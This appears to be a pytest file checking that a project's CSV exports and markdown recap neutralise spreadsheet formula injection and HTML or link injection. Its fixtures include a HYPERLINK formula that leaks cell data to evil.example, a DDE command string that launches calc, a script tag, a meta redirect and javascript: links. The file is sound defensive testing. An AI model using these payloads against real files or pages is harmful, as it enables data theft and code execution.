"""Spreadsheet formula injection (issue 31, finding 10; OWASP "CSV injection"): a lead id or
channel such as `=HYPERLINK(...)` is written inert in handoff.csv, returning.csv, overdue.csv,
the dashboard's downloads and every other CSV the project writes; recap.md shows raw HTML and
links from lead fields as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd

from daily.handoff import OVERDUE_COLUMNS, RETURNING_COLUMNS
from daily.render import handoff_csv, md_cell, table_csv
from dashboard.panels import col, table
from foundation.csv_safe import FORMULA_STARTS, safe_cell
from foundation.io import write_table

ROOT = Path(__file__).resolve().parents[1]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a plain number may start so


def test_formula_cells_get_a_quote_and_plain_numbers_stay_numbers() -> None:
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert [safe_cell(v) for v in ("-3.5", "+12", "-0", 7, -1.5, None)] == [
        "-3.5",
        "+12",
        "-0",
        7,
        -1.5,
        None,
    ]
    assert safe_cell("L-000123") == "L-000123"  # a dash inside is harmless


def test_daily_csv_files_write_formula_ids_and_channels_inert() -> None:
    handoff = pd.DataFrame(
        {
            "lead_id": PAYLOADS,
            "channel": [EVIL] * len(PAYLOADS),
            "probability": 0.5,
            "score": 50,
            "reasons": [["=1+1 pricing page"]] * len(PAYLOADS),
            "activity": [{"activity": "@visits 3"}] * len(PAYLOADS),
        }
    )
    rows = cells(handoff_csv(handoff))
    assert_inert(rows)
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    flagged = pd.DataFrame({"lead_id": PAYLOADS, "channel": EVIL, "score": -3})
    for columns in (RETURNING_COLUMNS, OVERDUE_COLUMNS):
        rows = cells(table_csv(flagged, columns))
        assert_inert(rows)
        assert rows[1][0] == "'" + EVIL


def test_dashboard_downloads_write_formula_cells_inert() -> None:
    shown = table(
        pd.DataFrame({"lead_id": PAYLOADS, "delta": "-4.0"}),
        [col("lead_id", "Lead"), col("delta", "Change")],
    )
    rows = cells(shown.csv())
    assert_inert(rows)
    assert rows[1] == ["'" + EVIL, "-4.0"]


def test_tables_written_as_csv_files_are_inert(tmp_path: Path) -> None:
    path = write_table(pd.DataFrame({"feature": PAYLOADS, "value": -1.0}), tmp_path / "t.csv")
    rows = cells(path.read_text())
    assert_inert(rows)
    assert rows[1] == ["'" + EVIL, "-1.0"]


def test_every_csv_writer_goes_through_csv_safe() -> None:
    """No module writes CSV by itself: a new writer must use foundation/csv_safe.py."""
    writer = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in (
            "foundation",
            "features",
            "models",
            "sla",
            "store",
            "scoring",
            "daily",
            "delivery",
            "engine",
            "serve",
            "pipeline",
        )
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csv_safe.py" and writer.search(path.read_text())
    ]
    assert offenders == []


def test_recap_markdown_cells_show_html_and_links_as_text() -> None:
    for payload in (
        "<script>alert(1)</script>",
        '<meta http-equiv="refresh" content="0;url=http://evil.example">',
        "[click](javascript:alert(1))",
        "<javascript:alert(1)>",
    ):
        cell = md_cell(payload)
        assert "<" not in cell and ">" not in cell
        assert re.search(r"(?<!\\)[\[\]]", cell) is None  # every bracket escaped: no link
    assert md_cell("a|b\nc") == "a/b c"
